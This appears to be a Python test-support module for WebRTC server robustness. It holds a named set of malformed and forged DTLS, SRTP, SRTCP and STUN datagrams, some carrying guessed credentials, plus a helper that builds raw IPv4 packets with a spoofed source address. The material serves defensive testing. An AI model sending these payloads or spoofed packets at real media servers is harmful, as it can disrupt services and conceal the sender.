"""Datagrams that harm WebRTC servers (ROBUSTNESS.md D1 to D5): what a stranger may throw at a media port. Rules only."""

from __future__ import annotations

import base64
import struct

from aioice import stun


def dtls(kind: int, body: bytes) -> bytes:
    return bytes([kind, 0xFE, 0xFD, 0, 0, 0, 0, 0, 0, 0, 0]) + len(body).to_bytes(2, "big") + body


def unsigned_check() -> bytes:
    return bytes(stun.Message(stun.Method.BINDING, stun.Class.REQUEST))


def wrongly_signed_check() -> bytes:
    message = stun.Message(stun.Method.BINDING, stun.Class.REQUEST)
    message.attributes["USERNAME"] = "abcd:efgh"
    message.add_message_integrity(b"guess")
    return bytes(message)


ATTACKS = {
    # what it is called in reports: the datagram
    "empty datagram": b"",
    "one byte": b"\x16",
    "DTLS fatal alert": dtls(21, b"\x02\x28"),
    "DTLS close_notify": dtls(21, b"\x01\x00"),
    "DTLS junk handshake": dtls(22, b"\xff" * 40),
    "DTLS ServerHello": dtls(22, b"\x02\x00\x00\x26" + bytes(8) + b"\xfe\xfd" + bytes(36)),
    "DTLS HelloVerifyRequest": dtls(22, b"\x03\x00\x00\x03" + bytes(8) + b"\xfe\xff\x00"),
    "DTLS change cipher spec": dtls(20, b"\x01"),
    "DTLS application data": dtls(23, b"\x00" * 30),
    "short SRTP": b"\x80" * 3,
    "forged SRTP": b"\x80\x60" + bytes(60),
    "forged SRTCP": b"\x80\xc8" + bytes(60),
    "STUN without credentials": unsigned_check(),
    "STUN with a guessed password": wrongly_signed_check(),
    "STUN with a wrong attribute length": base64.b64decode("AQMAEQMaAAAAAAAAAKmpqampqakaAAAEAAj7AAADABEDGgAAAQ=="),
    "STUN header alone": b"\x00\x01\x00\x00\x21\x12\xa4\x42" + bytes(12),
    "other protocol": b"GET / HTTP/1.1\r\n\r\n",
}


def spoofed(source: tuple[str, int], target: tuple[str, int], payload: bytes) -> bytes:
    """An IPv4 packet for a raw socket that says it comes from `source` (RFC 791, RFC 768; no checksum in UDP)."""
    udp = struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0) + payload
    addresses = b"".join(bytes(map(int, host.split("."))) for host, _ in (source, target))
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + addresses + udp
